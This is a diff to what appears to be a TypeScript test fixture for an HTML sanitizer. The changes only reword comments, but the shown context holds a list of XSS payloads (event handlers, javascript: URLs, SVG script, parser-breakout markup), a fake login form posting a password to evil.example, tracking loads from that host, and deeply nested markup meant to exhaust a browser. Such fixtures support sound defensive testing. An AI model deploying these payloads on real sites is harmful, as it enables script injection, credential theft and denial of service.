@@ -1,6 +1,5 @@
 /**
- * HTML that somebody means ill with: each would call `hit()`, load something from evil.example, or leave the box that
- * it is shown in.
+ * Malicious HTML. Each piece would call `hit()`, load something from evil.example, or leave the box that shows it.
  */
 export const hostileHtml: readonly string[] = [
   // scripts
@@ -74,7 +73,7 @@ export const hostileHtml: readonly string[] = [
   '<form action="https://evil.example/login"><input name=password type=password><button>Sign in</button></form>',
   '<form id=f></form><button form=f formaction="javascript:hit()">x</button>',
   '<isindex action="javascript:hit()" type=submit value=x>',
-  // what loads
+  // things that load
   '<img src="https://evil.example/pixel.gif">',
   '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
   "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>\">",
@@ -126,7 +125,7 @@ export const hostileHtml: readonly string[] = [
   '<font color=red size=7 face="x;background:url(https://evil.example/f)">x</font>',
   '<div dir=rtl style="direction:rtl">\u202Eneddih</div>',
   '<slot name=x></slot><p slot=x>x</p>',
-  // other namespaces, and what parses differently twice
+  // other namespaces, and markup that parses differently the second time
   '<svg onload=hit()></svg>',
   '<svg><script>hit()</script></svg>',
   '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>x</text></a></svg>',
@@ -161,7 +160,7 @@ export const hostileHtml: readonly string[] = [
   '</textarea></title></style></script><img src=x onerror=hit()>',
 ];
 
-/** What a browser must never be made to read because of its size or depth. */
+/** HTML whose size or depth no browser must be made to read. */
 export const boundlessHtml: readonly [what: string, html: string][] = [
   ['nested elements', '<div>'.repeat(100_000)],
   ['nested emphasis', '<b><i>'.repeat(50_000)],
